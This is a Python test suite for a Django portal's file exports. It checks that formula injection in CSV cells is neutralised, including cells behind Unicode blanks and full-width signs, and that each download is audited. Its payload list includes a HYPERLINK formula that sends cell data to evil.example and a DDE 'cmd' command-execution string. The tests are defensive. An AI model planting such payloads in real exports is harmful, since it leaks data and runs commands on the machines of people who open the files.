"""Every file the portal lets a member download (CSV, YAML, JSON): spreadsheet formulas in
untrusted cells are neutralised (OWASP CSV injection), and each download leaves exactly one
`export.download` audit event saying what was exported."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from django.db import connection
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from audit.exports import describe_filters
from audit.models import AuditEvent
from inventory.models import AwsAccount, Resource
from policies import services
from policies.engine.spec import parse_rules
from policies.models import Finding
from tagsense.csvexport import Quoted, csv_line_sql, csv_lines, quoted_cell, safe_cell
from tagsense.tenancy.db import tenant_scope
from tests.conftest import client_for

pytestmark = pytest.mark.django_db

ACCOUNT = "111111111111"
# The formula starters, and their full-width forms, which some spreadsheet locales read as them.
DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
# What a spreadsheet may skip before it looks for a formula: whitespace and the invisible
# Unicode separators and format characters (Zs, Zl, Zp, Cf).
BLANKS = [
    " ",
    "\n",
    "\x0b",
    "\x0c",
    "\x1c",
    "\u00a0",
    "\u3000",
    *[chr(c) for c in range(0x2000, 0x200B)],  # en quad .. hair space
    "\u200b",  # zero-width space
    "\ufeff",  # byte-order mark
    "\u2028",  # line separator
    "\u2029",  # paragraph separator
    "\u202f",
    "\u205f",
    "\u2060",  # word joiner
    "\u200e",  # left-to-right mark
    "\u202e",  # right-to-left override
    "\u00ad",  # soft hyphen
    "\u180e",
    "\u200b\u00a0\ufeff",  # several of them
]
# A payload per dangerous start, and the same after every kind of leading blank.
PAYLOADS = [f'{c}HYPERLINK("http://evil.example/?"&A1,"x")' for c in DANGEROUS] + [
    f"{blank}{c}cmd|' /C calc'!A0" for blank in BLANKS for c in DANGEROUS
]

RULES = parse_rules(
    """
version: 1
rules:
  - {id: owner-required, title: Owner, check: required_key, key: Owner}
  - id: env
    title: e
    check: allowed_values
    key: Environment
    values: {list: [prod, dev]}
"""
)


def spreadsheet_would_run(cell: str) -> bool:
    """Whether the first character a lenient spreadsheet reads (after every leading blank,
    compatibility forms folded) starts a formula."""
    for ch in cell:
        if unicodedata.normalize("NFKC", ch) in ("=", "+", "-", "@", "\t", "\r"):
            return True
        if not (ch.isspace() or unicodedata.category(ch) in ("Zs", "Zl", "Zp", "Cf")):
            return False
    return False


@pytest.fixture
def hostile_estate(org):
    """Resources whose every attacker-controlled text begins like a formula: names, ids, ARNs,
    tag keys and values; findings whose owner, found key and owner teams do too."""
    now = timezone.now()
    with tenant_scope(org):
        account = AwsAccount.objects.create(organization=org, account_id=ACCOUNT)
        for i, payload in enumerate(PAYLOADS):
            Resource.objects.create(
                organization=org,
                account=account,
                arn=f"{payload}-arn-{i}",
                region="eu-west-1",
                resource_type="ec2:instance",
                resource_id=f"{payload}-id-{i}",
                name=payload,
                tags={payload: payload},  # sorted first: the tags cell starts with the key
                fingerprint="x",
                first_seen=now,
                last_written=now,
            )
        for spec in RULES:
            services.create_rule(org, spec)
        findings = list(Finding.objects.for_org(org).order_by("id"))
        assert len(findings) >= len(PAYLOADS)
        for finding, payload in zip(findings, PAYLOADS * 2, strict=False):
            Finding.objects.filter(pk=finding.pk).update(
                owner=payload, found_key=payload, owner_teams=[payload]
            )
    return account


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


CSV_EXPORTS = {
    "inventory": "/o/{slug}/inventory/?format=csv",
    "findings": "/o/{slug}/findings/?format=csv",
}


@pytest.mark.parametrize("name", sorted(CSV_EXPORTS))
def test_no_csv_cell_starts_like_a_formula(org, admin, hostile_estate, name):
    rows = _csv(client_for(admin).get(CSV_EXPORTS[name].format(slug=org.slug)))
    assert len(rows) > len(PAYLOADS)  # the header and the hostile rows are all there
    cells = [cell for row in rows for cell in row]
    running = [cell for cell in cells if spreadsheet_would_run(cell)]
    assert running == []
    # Nothing is dropped: each payload is still there, readable, behind a quote.
    for payload in PAYLOADS:
        assert f"'{payload}" in cells or any(c.startswith(f"'{payload}") for c in cells)


def test_every_csv_column_with_untrusted_text_is_neutralised(org, admin, hostile_estate):
    rows = _csv(client_for(admin).get(f"/o/{org.slug}/inventory/?format=csv"))
    header, body = rows[0], rows[1:]
    for column in ("arn", "id", "name", "tags"):
        index = header.index(column)
        assert {row[index][0] for row in body} == {"'"}, column
    rows = _csv(client_for(admin).get(f"/o/{org.slug}/findings/?format=csv"))
    header, body = rows[0], rows[1:]
    for column in ("found_key", "arn", "owner", "owner_teams"):
        index = header.index(column)
        assert {row[index][0] for row in body} == {"'"}, column


def test_csv_cells_are_quoted_so_a_separator_cannot_start_a_cell():

    line = list(csv_lines(["h"], [["a,=1+1", "=2", "plain", None, 5]]))[1]
    assert line == '"a,=1+1","\'=2","plain","","5"\r\n'
    assert safe_cell("\u00a0=1") == "'\u00a0=1" and safe_cell("x=1") == "x=1"
    # OWASP ASVS also names NUL (PostgreSQL cannot store it, so only a caller can pass it).
    assert safe_cell("\0=1") == "'\0=1"
    # Harmless text that merely contains blanks or full-width signs later is left alone.
    assert safe_cell("a\u200b=1") == "a\u200b=1" and safe_cell("x\uff1d1") == "x\uff1d1"


def _sql_lines(rows: list[list[str | None]]) -> list[str]:
    """Each row as the CSV line PostgreSQL writes (csv_line_sql), the cells as parameters."""
    width = len(rows[0])
    line, params = csv_line_sql([f"v.c{i}" for i in range(width)])
    values = ", ".join("(" + ", ".join(["%s::text"] * width) + ")" for _ in rows)
    columns = ", ".join(f"c{i}" for i in range(width))
    with connection.cursor() as cursor:
        cursor.execute(
            f"SELECT {line} FROM (VALUES {values}) v({columns})",
            [*params, *(cell for row in rows for cell in row)],
        )
        return [row[0] for row in cursor.fetchall()]


# Text PostgreSQL can store: no NUL, no lone surrogate.
STORABLE = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\0"), max_size=12
)
EDGES = [*PAYLOADS, "", "-1", "'=1", '"=1"', 'a"b', "x,y", "\u2060\u2061+1", "\u00a0", "\t"]


def test_postgresql_writes_the_same_csv_cells_as_python():
    """The evidence package's large files are written by PostgreSQL (csv_line_sql): every
    payload, blank and edge case above becomes the cell csv_lines() writes, NULL included."""
    rows = [[value, None, "plain"] for value in EDGES]
    python = list(csv_lines(["a", "b", "c"], rows))[1:]
    assert _sql_lines(rows) == python
    assert csv_line_sql([Quoted("'\"x\"'"), "'y'"])[0].startswith("('\"x\"') || ',' || ")
    assert quoted_cell("=1") == '"\'=1"' and quoted_cell(None) == '""'


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.lists(
        st.tuples(STORABLE, st.sampled_from(["", *BLANKS]), st.sampled_from(["", *DANGEROUS])),
        min_size=1,
        max_size=20,
    )
)
def test_postgresql_and_python_agree_on_any_text(parts):
    rows = [[blank + danger + text] for text, blank, danger in parts]
    assert _sql_lines(rows) == list(csv_lines(["a"], rows))[1:]


# --- every export is audited ---------------------------------------------------------------

EXPORTS = {
    # name: (url, kind, format)
    "inventory-csv": (
        "/o/{slug}/inventory/?format=csv&type=ec2:instance", "inventory.resources", "csv",
    ),
    "findings-csv": ("/o/{slug}/findings/?format=csv&severity=medium", "policies.findings", "csv"),
    "rules-yaml": ("/o/{slug}/policies/export.yaml", "policies.rules", "yaml"),
    "aws-json": ("/o/{slug}/policies/aws/export.json", "policies.aws.documents", "json"),
    "role-template-yaml": (
        "/o/{slug}/inventory/accounts/role-template.yaml?account=" + ACCOUNT,
        "inventory.role_template", "yaml",
    ),
    "api-rules-yaml": ("/api/v1/o/{slug}/policies/export/?active=1", "policies.rules", "yaml"),
    "api-aws-json": (
        "/api/v1/o/{slug}/policies/aws-tag-policies/export/",
        "policies.aws.documents",
        "json",
    ),
}  # fmt: skip


def _exports(organization) -> list[AuditEvent]:
    with tenant_scope(organization):
        return list(AuditEvent.objects.filter(action="export.download").order_by("seq"))


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_every_export_writes_one_audit_event_saying_what(org, other_org, admin, name):
    with tenant_scope(org):
        account = AwsAccount.objects.create(organization=org, account_id=ACCOUNT)
        now = timezone.now()
        for i in range(3):
            Resource.objects.create(
                organization=org, account=account, arn=f"arn:aws:ec2:eu-west-1:{ACCOUNT}:i/{i}",
                region="eu-west-1", resource_type="ec2:instance", resource_id=f"i-{i}",
                name=f"r{i}", tags={}, fingerprint="x", first_seen=now, last_written=now,
            )  # fmt: skip
        for spec in RULES:
            services.create_rule(org, spec)
    url, kind, file_format = EXPORTS[name]
    before = len(_exports(org))
    response = client_for(admin).get(url.format(slug=org.slug))
    assert response.status_code == 200, response.content
    if hasattr(response, "streaming_content"):
        b"".join(response.streaming_content)
    events = _exports(org)
    assert len(events) == before + 1
    event = events[-1]
    assert event.data["kind"] == kind and event.data["format"] == file_format
    assert event.actor_id == str(admin.pk)
    expected_rows = {
        "inventory.resources": 3,  # three instances
        "policies.findings": 3,  # one missing Owner per resource (medium, the default)
        "policies.rules": 2,
        "policies.aws.documents": 2,  # owner and environment
        "inventory.role_template": 1,  # one template
    }[kind]
    assert event.data["rows"] == expected_rows
    query = dict(p.split("=", 1) for p in url.partition("?")[2].split("&") if p)
    query.pop("format", None)
    assert event.data["filters"] == query
    assert _exports(other_org) == []


def test_a_filter_with_control_characters_is_kept_readably(org, admin):

    assert describe_filters({"q": "a\x00b\nc" + "x" * 300, "format": "csv"}) == {
        "q": "abc" + "x" * 197
    }


def _routes(resolver=None, prefix=""):
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            yield from _routes(entry, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern):
            yield prefix + str(entry.pattern), entry


# Evidence packages are downloaded (and audited, as evidence.export_download with the package's
# SHA-256) by their own routes, tested in tests/evidence/ and tests/isolation.py (their addresses
# say "export").
EVIDENCE_ROUTES = {
    "evidence/<uuid:export>/",
    "evidence/<uuid:export>/download",
    "evidence/exports/",
    "evidence/exports/<uuid:export>/",
    "evidence/exports/<uuid:export>/download",
}


def test_every_export_route_is_in_this_suite():
    """A new download route must join EXPORTS (and so be audited and tested)."""
    listed = {url.split("{slug}/", 1)[1].split("?")[0] for url, _, _ in EXPORTS.values()}
    listed |= EVIDENCE_ROUTES
    found = set()
    for route, _ in _routes():
        if "export" in route or route.endswith((".csv", ".yaml", ".json")):
            tail = route.split("<slug:org_slug>/", 1)[-1]
            if "graph.json" not in tail and "schema" not in tail:
                found.add(tail)
    assert found <= listed | {"inventory/resources/<int:pk>/graph.json"}, found - listed
